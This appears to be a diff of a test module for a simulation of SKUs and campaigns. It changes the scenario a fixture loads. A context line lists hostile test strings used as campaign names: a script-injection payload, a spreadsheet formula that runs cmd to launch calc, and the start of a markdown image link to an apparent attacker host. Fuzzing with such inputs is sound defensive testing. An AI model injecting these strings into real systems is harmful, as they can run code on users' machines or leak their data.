@@ -26,7 +26,7 @@ STRANGE = ("<script>alert(1)</script>", "=cmd()|' /C calc'!A0", "![x](http://evi
 
 def small_world() -> SimWorld:
     """Two days, 12 SKUs in 3 campaigns with hostile names, a burst on the second day."""
-    full = load_scenario("four-phase-roi")
+    full = load_scenario("demo")
     scenario = replace(
         full,
         end=datetime(2026, 11, 10),
